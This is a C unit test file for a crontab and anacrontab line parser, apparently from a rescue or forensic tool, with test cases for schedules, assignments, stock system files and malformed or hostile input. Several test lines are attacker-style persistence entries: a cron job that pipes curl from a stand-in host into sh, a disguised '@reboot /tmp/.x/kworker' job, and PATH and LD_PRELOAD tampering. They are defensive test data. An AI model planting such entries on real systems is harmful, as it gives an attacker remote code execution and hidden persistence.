/*
 * test_crontab.c - crontab(5) and anacrontab(5) lines: Debian's and
 * RHEL's stock files, every schedule form, assignments, '%', and what
 * an attacker or a broken editor leaves (CR LF, NUL, 1 MiB lines)
 */
#include <stdlib.h>

#include "unit.h"
#include "parse/crontab.h"

/* The entry's copy of a span, for ASSERT_STR; static, one at a time. */
static const char *
str(const char *p, size_t n)
{
	static char	buf[4][1024];
	static int	k;
	char		*b = buf[k++ % 4];

	if (p == NULL)
		n = 0;
	if (n >= sizeof(buf[0]))
		n = sizeof(buf[0]) - 1;
	if (n > 0)
		memcpy(b, p, n);
	b[n] = '\0';
	return b;
}

/*
 * One line through a fresh parser, from a heap copy of its exact
 * length so that ASan sees a read past it.  The entry's pointers are
 * rebased onto S, which outlives the call.
 */
static enum crontab_kind
line(enum crontab_mode mode, const char *s, struct crontab_entry *e)
{
	struct crontab_parser	 p;
	size_t			 len = strlen(s);
	char			*buf = malloc(len ? len : 1);
	enum crontab_kind	 k;

	if (buf == NULL)
		abort();
	memcpy(buf, s, len);
	crontab_parser_init(&p, mode);
	k = crontab_parse_line(&p, buf, len, e);
#define REBASE(f)	if (e->f != NULL) e->f = s + (e->f - buf)
	REBASE(sched);
	REBASE(job_id);
	REBASE(user);
	REBASE(command);
	REBASE(name);
	REBASE(value);
#undef REBASE
	crontab_parser_release(&p);
	free(buf);
	return k;
}

#define ALL_MIN		((((uint64_t)1) << 60) - 1)
#define ALL_HOUR	0xffffffu
#define ALL_MDAY	0xfffffffeu
#define ALL_MON		0x1ffeu
#define ALL_WDAY	0x7fu

TEST(crontab_user_job)
{
	struct crontab_entry	e;

	ASSERT_INT(line(CRONTAB_USER, "*/5 * * * * /usr/bin/curl -s "
	    "http://x.example/a.sh | sh", &e), CRONTAB_JOB);
	ASSERT_INT(e.line, 1);
	ASSERT_STR(str(e.sched, e.schedlen), "*/5 * * * *");
	ASSERT_STR(str(e.command, e.commandlen),
	    "/usr/bin/curl -s http://x.example/a.sh | sh");
	ASSERT_INT(e.headlen, e.commandlen);
	ASSERT_INT(e.userlen, 0);
	ASSERT(!e.runs_at_reboot);
	ASSERT_INT(e.hours, ALL_HOUR);
	ASSERT_INT(e.mdays, ALL_MDAY);
	ASSERT_INT(e.months, ALL_MON);
	ASSERT_INT(e.wdays, ALL_WDAY);
	ASSERT(e.flags & CRONTAB_F_MDAY_STAR);
	ASSERT(e.flags & CRONTAB_F_WDAY_STAR);
	ASSERT(e.why == NULL);
}

TEST(crontab_minutes_every_five)
{
	struct crontab_entry	e;
	unsigned		m;

	ASSERT_INT(line(CRONTAB_USER, "*/5 * * * * x", &e), CRONTAB_JOB);
	for (m = 0; m < 60; m++)
		ASSERT_INT(!!(e.minutes & (uint64_t)1 << m), m % 5 == 0);
}

TEST(crontab_fields)
{
	struct crontab_entry	e;

	/* ranges with steps, lists, names of any case, tabs */
	ASSERT_INT(line(CRONTAB_USER, "0,30\t1-5/2  1,15 JAN-jun "
	    "mon,Wed,fri\tcmd arg", &e), CRONTAB_JOB);
	ASSERT_STR(str(e.sched, e.schedlen),
	    "0,30\t1-5/2  1,15 JAN-jun mon,Wed,fri");
	ASSERT_INT(e.minutes, (uint64_t)1 | (uint64_t)1 << 30);
	ASSERT_INT(e.hours, 1u << 1 | 1u << 3 | 1u << 5);
	ASSERT_INT(e.mdays, 1u << 1 | 1u << 15);
	ASSERT_INT(e.months, 0x7e);
	ASSERT_INT(e.wdays, 1u << 1 | 1u << 3 | 1u << 5);
	ASSERT(!(e.flags & (CRONTAB_F_MDAY_STAR | CRONTAB_F_WDAY_STAR)));
	ASSERT_STR(str(e.command, e.commandlen), "cmd arg");

	/* 7 is Sunday too; cronie's '?' is '*'; "5/20" is 5-59/20 */
	ASSERT_INT(line(CRONTAB_USER, "5/20 ? * * 5-7 cmd", &e), CRONTAB_JOB);
	ASSERT_INT(e.minutes, (uint64_t)1 << 5 | (uint64_t)1 << 25 |
	    (uint64_t)1 << 45);
	ASSERT_INT(e.hours, ALL_HOUR);
	ASSERT_INT(e.wdays, 1u << 0 | 1u << 5 | 1u << 6);
	ASSERT(!(e.flags & CRONTAB_F_WDAY_STAR));

	/* cronie's random "~": any value of the range is possible */
	ASSERT_INT(line(CRONTAB_USER, "0~30 ~ * * * cmd", &e), CRONTAB_JOB);
	ASSERT(e.flags & CRONTAB_F_RANDOM);
	ASSERT_INT(e.minutes, (((uint64_t)1) << 31) - 1);
	ASSERT_INT(e.hours, ALL_HOUR);

	/* like cron, junk after a list up to the blank is skipped */
	ASSERT_INT(line(CRONTAB_USER, "5; * * * * cmd", &e), CRONTAB_JOB);
	ASSERT_INT(e.minutes, (uint64_t)1 << 5);

	/* a cronie "-" turns off logging */
	ASSERT_INT(line(CRONTAB_USER, "-* * * * * quiet", &e), CRONTAB_JOB);
	ASSERT(e.flags & CRONTAB_F_NOLOG);
	ASSERT_STR(str(e.sched, e.schedlen), "* * * * *");
}

TEST(crontab_keywords)
{
	struct crontab_entry	e;

	ASSERT_INT(line(CRONTAB_USER, "@reboot /tmp/.x/kworker", &e),
	    CRONTAB_JOB);
	ASSERT(e.runs_at_reboot);
	ASSERT(e.flags & CRONTAB_F_REBOOT);
	ASSERT_STR(str(e.sched, e.schedlen), "@reboot");
	ASSERT_STR(str(e.command, e.commandlen), "/tmp/.x/kworker");
	ASSERT_INT(e.minutes, 0);

	ASSERT_INT(line(CRONTAB_USER, "@hourly a", &e), CRONTAB_JOB);
	ASSERT_INT(e.minutes, 1);
	ASSERT_INT(e.hours, ALL_HOUR);
	ASSERT_INT(line(CRONTAB_USER, "@daily a", &e), CRONTAB_JOB);
	ASSERT_INT(e.hours, 1);
	ASSERT_INT(e.mdays, ALL_MDAY);
	ASSERT_INT(line(CRONTAB_USER, "@midnight a", &e), CRONTAB_JOB);
	ASSERT_INT(e.hours, 1);
	ASSERT_INT(line(CRONTAB_USER, "@weekly a", &e), CRONTAB_JOB);
	ASSERT_INT(e.wdays, 1);
	ASSERT_INT(e.mdays, ALL_MDAY);
	ASSERT_INT(line(CRONTAB_USER, "@monthly a", &e), CRONTAB_JOB);
	ASSERT_INT(e.mdays, 2);
	ASSERT_INT(e.months, ALL_MON);
	ASSERT_INT(line(CRONTAB_USER, "@yearly a", &e), CRONTAB_JOB);
	ASSERT_INT(e.months, 2);
	ASSERT_INT(line(CRONTAB_USER, "@annually a", &e), CRONTAB_JOB);
	ASSERT_INT(e.months, 2);
	ASSERT_INT(e.mdays, 2);

	/* in a system crontab the user follows */
	ASSERT_INT(line(CRONTAB_SYSTEM, "@reboot root /opt/x", &e),
	    CRONTAB_JOB);
	ASSERT_STR(str(e.user, e.userlen), "root");
	ASSERT_STR(str(e.command, e.commandlen), "/opt/x");

	/* cron compares the word exactly */
	ASSERT_INT(line(CRONTAB_USER, "@Reboot a", &e), CRONTAB_MALFORMED);
	ASSERT_STR(e.why, "bad time specifier");
	ASSERT_INT(line(CRONTAB_USER, "@every a", &e), CRONTAB_MALFORMED);
	ASSERT_INT(line(CRONTAB_USER, "@reboot", &e), CRONTAB_MALFORMED);
	ASSERT_STR(e.why, "bad command");
}

TEST(crontab_system)
{
	static const char	debian[] =
	    "# /etc/crontab: system-wide crontab\n"
	    "SHELL=/bin/sh\n"
	    "PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:"
	    "/usr/bin\n"
	    "\n"
	    "# Example of job definition:\n"
	    "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n"
	    "25 6\t* * *\troot\ttest -x /usr/sbin/anacron || { cd / && "
	    "run-parts --report /etc/cron.daily; }\n"
	    "47 6\t* * 7\troot\ttest -x /usr/sbin/anacron || { cd / && "
	    "run-parts --report /etc/cron.weekly; }\n"
	    "52 6\t1 * *\troot\ttest -x /usr/sbin/anacron || { cd / && "
	    "run-parts --report /etc/cron.monthly; }\n"
	    "#\n";
	struct crontab_parser	p;
	struct crontab_entry	e;
	const char		*s = debian, *nl;
	unsigned		jobs = 0;

	crontab_parser_init(&p, CRONTAB_SYSTEM);
	while ((nl = strchr(s, '\n')) != NULL) {
		if (crontab_parse_line(&p, s, (size_t)(nl - s), &e) ==
		    CRONTAB_JOB) {
			jobs++;
			ASSERT_STR(str(e.user, e.userlen), "root");
		}
		if (e.line == 2) {
			ASSERT_INT(e.kind, CRONTAB_ENV);
			ASSERT_STR(str(e.name, e.namelen), "SHELL");
			ASSERT_STR(str(e.value, e.valuelen), "/bin/sh");
		}
		if (e.line == 6) {
			ASSERT_STR(str(e.command, e.commandlen),
			    "cd / && run-parts --report /etc/cron.hourly");
			ASSERT_INT(e.minutes, (uint64_t)1 << 17);
		}
		if (e.line == 8)
			ASSERT_INT(e.wdays, 1);
		s = nl + 1;
	}
	ASSERT_INT(jobs, 4);
	ASSERT_INT(p.njobs, 4);
	ASSERT_INT(p.nenv, 2);
	ASSERT_INT(p.nmalformed, 0);
	ASSERT_INT(p.line, 10);
	crontab_parser_release(&p);

	/* A user crontab line in /etc/cron.d: the command is the user. */
	ASSERT_INT(line(CRONTAB_SYSTEM, "0 3 * * * /opt/backup.sh", &e),
	    CRONTAB_MALFORMED);
	ASSERT_STR(e.why, "bad command");
	ASSERT_INT(line(CRONTAB_SYSTEM, "0 3 * * *   ", &e),
	    CRONTAB_MALFORMED);
	ASSERT_STR(e.why, "bad username");
}

TEST(crontab_env)
{
	struct crontab_entry	e;

	ASSERT_INT(line(CRONTAB_USER, "MAILTO=\"\"", &e), CRONTAB_ENV);
	ASSERT_STR(str(e.name, e.namelen), "MAILTO");
	ASSERT_INT(e.valuelen, 0);
	ASSERT(e.flags & CRONTAB_F_QUOTED);

	ASSERT_INT(line(CRONTAB_USER, "  PATH = /tmp/.x:/usr/bin   ", &e),
	    CRONTAB_ENV);
	ASSERT_STR(str(e.name, e.namelen), "PATH");
	ASSERT_STR(str(e.value, e.valuelen), "/tmp/.x:/usr/bin");
	ASSERT(!(e.flags & CRONTAB_F_QUOTED));

	ASSERT_INT(line(CRONTAB_USER, "LD_PRELOAD = ' /lib/x.so '  ", &e),
	    CRONTAB_ENV);
	ASSERT_STR(str(e.value, e.valuelen), " /lib/x.so ");

	ASSERT_INT(line(CRONTAB_USER, "\"A B\"=c d", &e), CRONTAB_ENV);
	ASSERT_STR(str(e.name, e.namelen), "A B");
	ASSERT_STR(str(e.value, e.valuelen), "c d");

	ASSERT_INT(line(CRONTAB_USER, "BASH_ENV=", &e), CRONTAB_ENV);
	ASSERT_INT(e.valuelen, 0);

	/* not an assignment, and not a job either */
	ASSERT_INT(line(CRONTAB_USER, "X=\"unterminated", &e),
	    CRONTAB_MALFORMED);
	ASSERT_INT(line(CRONTAB_USER, "X=\"a\" junk", &e), CRONTAB_MALFORMED);
	ASSERT_INT(line(CRONTAB_USER, "A B=c", &e), CRONTAB_MALFORMED);
	ASSERT_INT(line(CRONTAB_USER, "=x", &e), CRONTAB_MALFORMED);

	/* a job whose command assigns is a job */
	ASSERT_INT(line(CRONTAB_USER, "* * * * * A=1 cmd", &e), CRONTAB_JOB);
	ASSERT_STR(str(e.command, e.commandlen), "A=1 cmd");
	ASSERT_INT(line(CRONTAB_USER, "@daily A=1 cmd", &e), CRONTAB_JOB);
}

TEST(crontab_percent)
{
	struct crontab_entry	e;

	ASSERT_INT(line(CRONTAB_USER, "0 * * * * mail -s hi root%line 1%line "
	    "2", &e), CRONTAB_JOB);
	ASSERT(e.flags & CRONTAB_F_STDIN);
	ASSERT_STR(str(e.command, e.headlen), "mail -s hi root");
	ASSERT_STR(str(e.command, e.commandlen),
	    "mail -s hi root%line 1%line 2");

	/* "\%" is a '%'; "\\%" cuts */
	ASSERT_INT(line(CRONTAB_USER, "0 * * * * date +\\%s", &e),
	    CRONTAB_JOB);
	ASSERT(!(e.flags & CRONTAB_F_STDIN));
	ASSERT_INT(e.headlen, e.commandlen);
	ASSERT_INT(line(CRONTAB_USER, "0 * * * * echo \\\\%x", &e),
	    CRONTAB_JOB);
	ASSERT(e.flags & CRONTAB_F_STDIN);
	ASSERT_STR(str(e.command, e.headlen), "echo \\\\");

	/* anacron has no '%' rule */
	ASSERT_INT(line(CRONTAB_ANACRON, "1 5 x date +%s", &e), CRONTAB_JOB);
	ASSERT(!(e.flags & CRONTAB_F_STDIN));
	ASSERT_INT(e.headlen, e.commandlen);
}

TEST(crontab_comments_blank_crlf)
{
	struct crontab_entry	e;

	ASSERT_INT(line(CRONTAB_USER, "", &e), CRONTAB_NONE);
	ASSERT_INT(line(CRONTAB_USER, " \t ", &e), CRONTAB_NONE);
	ASSERT_INT(line(CRONTAB_USER, "\t# m h dom mon dow command", &e),
	    CRONTAB_NONE);
	/* a '#' later on belongs to the command */
	ASSERT_INT(line(CRONTAB_USER, "1 2 3 4 5 a # b", &e), CRONTAB_JOB);
	ASSERT_STR(str(e.command, e.commandlen), "a # b");

	ASSERT_INT(line(CRONTAB_USER, "1 2 3 4 5 /bin/x\r", &e),
	    CRONTAB_JOB);
	ASSERT(e.flags & CRONTAB_F_CR);
	ASSERT_STR(str(e.command, e.commandlen), "/bin/x");
	ASSERT_INT(line(CRONTAB_USER, "\r", &e), CRONTAB_NONE);
	ASSERT_INT(line(CRONTAB_USER, "A=b\r", &e), CRONTAB_ENV);
	ASSERT_STR(str(e.value, e.valuelen), "b");

	/* no continuation in cron: the next line is a line of its own */
	ASSERT_INT(line(CRONTAB_USER, "1 2 3 4 5 a \\", &e), CRONTAB_JOB);
	ASSERT(e.flags & CRONTAB_F_BACKSLASH);
}

TEST(crontab_malformed)
{
	static const struct {
		const char	*line;
		const char	*why;
	} bad[] = {
		{ "60 * * * * x", "bad minute" },
		{ "* 24 * * * x", "bad hour" },
		{ "* * 0 * * x", "bad day-of-month" },
		{ "* * 32 * * x", "bad day-of-month" },
		{ "* * * 13 * x", "bad month" },
		{ "* * * foo * x", "bad month" },
		{ "* * * * 8 x", "bad day-of-week" },
		{ "* * * * monday x", "bad day-of-week" },
		{ "* * * * sun-fri,jan x", "bad day-of-week" },
		{ "5-1 * * * * x", "bad minute" },
		{ "*/0 * * * * x", "bad minute" },
		{ ",5 * * * * x", "bad minute" },
		{ "5, * * * * x", "bad minute" },
		{ "99999999999999999999 * * * * x", "bad minute" },
		{ "* * * *", "bad day-of-week" },
		{ "* * * * *", "bad command" },
		{ "*", "bad hour" },
		{ "hello world", "bad minute" },
	};
	struct crontab_entry	e;
	size_t			i;

	for (i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		if (line(CRONTAB_USER, bad[i].line, &e) != CRONTAB_MALFORMED) {
			unit_fail(__FILE__, __LINE__, "\"%s\" is %s",
			    bad[i].line, crontab_kind_name(e.kind));
			return;
		}
		ASSERT_STR(e.why, bad[i].why);
	}
}

TEST(crontab_anacron)
{
	static const char	tab[] =
	    "# /etc/anacrontab: configuration file for anacron\n"
	    "SHELL=/bin/sh\n"
	    "HOME=/root\n"
	    "LOGNAME=root\n"
	    "START_HOURS_RANGE=3-22\n"
	    "RANDOM_DELAY = 45\n"
	    "1\t5\tcron.daily\trun-parts --report /etc/cron.daily\n"
	    "7\t10\tcron.weekly\trun-parts --report /etc/cron.weekly\n"
	    "@monthly\t15\tcron.monthly\trun-parts --report "
	    "/etc/cron.monthly\n";
	struct crontab_parser	p;
	struct crontab_entry	e;
	const char		*s = tab, *nl;

	crontab_parser_init(&p, CRONTAB_ANACRON);
	while ((nl = strchr(s, '\n')) != NULL) {
		crontab_parse_line(&p, s, (size_t)(nl - s), &e);
		if (e.line == 6) {
			ASSERT_INT(e.kind, CRONTAB_ENV);
			ASSERT_STR(str(e.name, e.namelen), "RANDOM_DELAY");
			/* anacron takes the value as it is */
			ASSERT_STR(str(e.value, e.valuelen), " 45");
		}
		if (e.line == 8) {
			ASSERT_INT(e.kind, CRONTAB_JOB);
			ASSERT_INT(e.period_days, 7);
			ASSERT_INT(e.delay_min, 10);
			ASSERT_STR(str(e.sched, e.schedlen), "7\t10");
			ASSERT_STR(str(e.job_id, e.job_idlen), "cron.weekly");
			ASSERT_STR(str(e.command, e.commandlen),
			    "run-parts --report /etc/cron.weekly");
		}
		if (e.line == 9) {
			ASSERT_INT(e.kind, CRONTAB_JOB);
			ASSERT_INT(e.period_days, 30);
			ASSERT_STR(str(e.sched, e.schedlen), "@monthly\t15");
		}
		s = nl + 1;
	}
	ASSERT_INT(p.njobs, 3);
	ASSERT_INT(p.nenv, 5);
	ASSERT_INT(p.nmalformed, 0);
	crontab_parser_release(&p);

	ASSERT_INT(line(CRONTAB_ANACRON, "1 5 a/b cmd", &e),
	    CRONTAB_MALFORMED);
	ASSERT_STR(e.why, "bad job identifier");
	ASSERT_INT(line(CRONTAB_ANACRON, "@fortnightly 5 a cmd", &e),
	    CRONTAB_MALFORMED);
	ASSERT_STR(e.why, "unknown named period");
	ASSERT_INT(line(CRONTAB_ANACRON, "1x 5 a cmd", &e), CRONTAB_MALFORMED);
	ASSERT_STR(e.why, "bad period");
	ASSERT_INT(line(CRONTAB_ANACRON, "1 5 a", &e), CRONTAB_MALFORMED);
	ASSERT_STR(e.why, "bad command");
	ASSERT_INT(line(CRONTAB_ANACRON, "1 -5 a cmd", &e), CRONTAB_MALFORMED);
	ASSERT_STR(e.why, "bad delay");
	ASSERT_INT(line(CRONTAB_ANACRON, "1 5", &e), CRONTAB_MALFORMED);
	ASSERT_INT(line(CRONTAB_ANACRON, "* * * * * cmd", &e),
	    CRONTAB_MALFORMED);
	ASSERT_INT(line(CRONTAB_ANACRON, "@yearly 0 y /x", &e), CRONTAB_JOB);
	ASSERT_INT(e.period_days, 365);
}

/* Collects what crontab_feed reports. */
struct got {
	unsigned	n;
	unsigned	lines[16];
	int		kinds[16];
	unsigned	flags[16];
	size_t		cmdlen[16];
	char		first_cmd[64];
};

static int
collect(const struct crontab_entry *e, void *arg)
{
	struct got	*g = arg;

	if (g->n == 0 && e->command != NULL)
		snprintf(g->first_cmd, sizeof(g->first_cmd), "%.*s",
		    (int)(e->commandlen < 63 ? e->commandlen : 63),
		    e->command);
	if (g->n < 16) {
		g->lines[g->n] = e->line;
		g->kinds[g->n] = e->kind;
		g->flags[g->n] = e->flags;
		g->cmdlen[g->n] = e->commandlen;
	}
	g->n++;
	return 0;
}

TEST(crontab_feed_chunks)
{
	static const char	text[] = "# c\n@reboot /a\r\nX=1\n\nbad\n"
	    "1 2 3 4 5 /last";
	struct crontab_parser	p;
	struct got		g;
	size_t			cut, i;

	/* every split point and one byte at a time give the same */
	for (cut = 0; cut <= sizeof(text) - 1; cut++) {
		memset(&g, 0, sizeof(g));
		crontab_parser_init(&p, CRONTAB_USER);
		ASSERT_INT(crontab_feed(&p, text, cut, collect, &g), 0);
		ASSERT_INT(crontab_feed(&p, text + cut, sizeof(text) - 1 - cut,
		    collect, &g), 0);
		ASSERT_INT(crontab_finish(&p, collect, &g), 0);
		crontab_parser_release(&p);
		ASSERT_INT(g.n, 4);
		ASSERT_INT(g.lines[0], 2);
		ASSERT_INT(g.kinds[0], CRONTAB_JOB);
		ASSERT(g.flags[0] & CRONTAB_F_CR);
		ASSERT_STR(g.first_cmd, "/a");
		ASSERT_INT(g.lines[1], 3);
		ASSERT_INT(g.kinds[1], CRONTAB_ENV);
		ASSERT_INT(g.lines[2], 5);
		ASSERT_INT(g.kinds[2], CRONTAB_MALFORMED);
		ASSERT_INT(g.lines[3], 6);
		ASSERT_INT(g.cmdlen[3], 5);
	}
	memset(&g, 0, sizeof(g));
	crontab_parser_init(&p, CRONTAB_USER);
	for (i = 0; i < sizeof(text) - 1; i++)
		crontab_feed(&p, text + i, 1, collect, &g);
	crontab_finish(&p, collect, &g);
	crontab_parser_release(&p);
	ASSERT_INT(g.n, 4);
	ASSERT_INT(g.lines[3], 6);
}

TEST(crontab_hostile)
{
	struct crontab_parser	 p;
	struct crontab_entry	 e;
	struct got		 g;
	size_t			 big = 1024 * 1024, i;
	char			*buf;

	/* a 1 MiB command: kept to CRONTAB_LINE_MAX, flagged */
	buf = malloc(big + 32);
	ASSERT(buf != NULL);
	memcpy(buf, "* * * * * ", 10);
	memset(buf + 10, 'A', big);
	buf[10 + big] = '\n';
	memset(&g, 0, sizeof(g));
	crontab_parser_init(&p, CRONTAB_USER);
	for (i = 0; i < big + 11; i += 4096)
		crontab_feed(&p, buf + i, big + 11 - i < 4096 ? big + 11 - i :
		    4096, collect, &g);
	crontab_finish(&p, collect, &g);
	crontab_parser_release(&p);
	ASSERT_INT(g.n, 1);
	ASSERT_INT(g.kinds[0], CRONTAB_JOB);
	ASSERT(g.flags[0] & CRONTAB_F_TRUNCATED);
	ASSERT_INT(g.cmdlen[0], CRONTAB_LINE_MAX - 10);

	/* the same in one chunk */
	memset(&g, 0, sizeof(g));
	crontab_parser_init(&p, CRONTAB_USER);
	crontab_feed(&p, buf, big + 11, collect, &g);
	crontab_finish(&p, collect, &g);
	crontab_parser_release(&p);
	ASSERT_INT(g.n, 1);
	ASSERT(g.flags[0] & CRONTAB_F_TRUNCATED);

	/* no newline at all; in /etc/cron.d the A's are the user */
	memset(&g, 0, sizeof(g));
	crontab_parser_init(&p, CRONTAB_SYSTEM);
	crontab_feed(&p, buf, big + 10, collect, &g);
	crontab_finish(&p, collect, &g);
	crontab_parser_release(&p);
	free(buf);
	ASSERT_INT(g.n, 1);
	ASSERT_INT(g.kinds[0], CRONTAB_MALFORMED);
	ASSERT(g.flags[0] & CRONTAB_F_TRUNCATED);

	/* NUL bytes: kept and flagged */
	crontab_parser_init(&p, CRONTAB_USER);
	ASSERT_INT(crontab_parse_line(&p, "* * * * * a\0b", 13, &e),
	    CRONTAB_JOB);
	ASSERT(e.flags & CRONTAB_F_NUL);
	ASSERT_INT(e.commandlen, 3);
	ASSERT_INT(crontab_parse_line(&p, "\0\0\0", 3, &e),
	    CRONTAB_MALFORMED);
	ASSERT_INT(crontab_parse_line(&p, NULL, 0, &e), CRONTAB_NONE);
	ASSERT_INT(e.line, 3);
	crontab_parser_release(&p);
	crontab_parser_release(NULL);
}

static bool
keep_cron(const char *root, const char *rel)
{
	(void)root;
	return strncmp(rel, "cron/", 5) == 0;
}

/* Every file of the shared corpus, in the mode its name says. */
TEST(crontab_corpus)
{
	struct unit_files	*files;
	struct crontab_parser	 p;
	struct got		 g;
	char			 root[1024], path[2048], *text;
	size_t			 len;
	unsigned		 i, jobs = 0, bad = 0;
	enum crontab_mode	 mode;

	if (!unit_corpus_dir(root, sizeof(root))) {
		printf("# SKIP crontab corpus: not found "
		    "(set RESCUE_CORPUS)\n");
		return;
	}
	files = malloc(sizeof(*files));
	ASSERT(files != NULL);
	unit_list_files(root, keep_cron, files);
	for (i = 0; i < files->n; i++) {
		snprintf(path, sizeof(path), "%s/%s", root, files->path[i]);
		if ((text = unit_slurp(path, &len)) == NULL)
			continue;
		mode = strstr(path, "anacrontab") ? CRONTAB_ANACRON :
		    strstr(path, "cron.d") || strstr(path, "etc_crontab") ?
		    CRONTAB_SYSTEM : CRONTAB_USER;
		memset(&g, 0, sizeof(g));
		crontab_parser_init(&p, mode);
		crontab_feed(&p, text, len, collect, &g);
		crontab_finish(&p, collect, &g);
		jobs += p.njobs;
		bad += p.nmalformed;
		crontab_parser_release(&p);
		free(text);
	}
	printf("# crontab corpus: %u files, %u jobs\n", files->n, jobs);
	i = files->n;
	free(files);
	ASSERT(i > 0);
	ASSERT(jobs >= 9);
	ASSERT_INT(bad, 0);
}
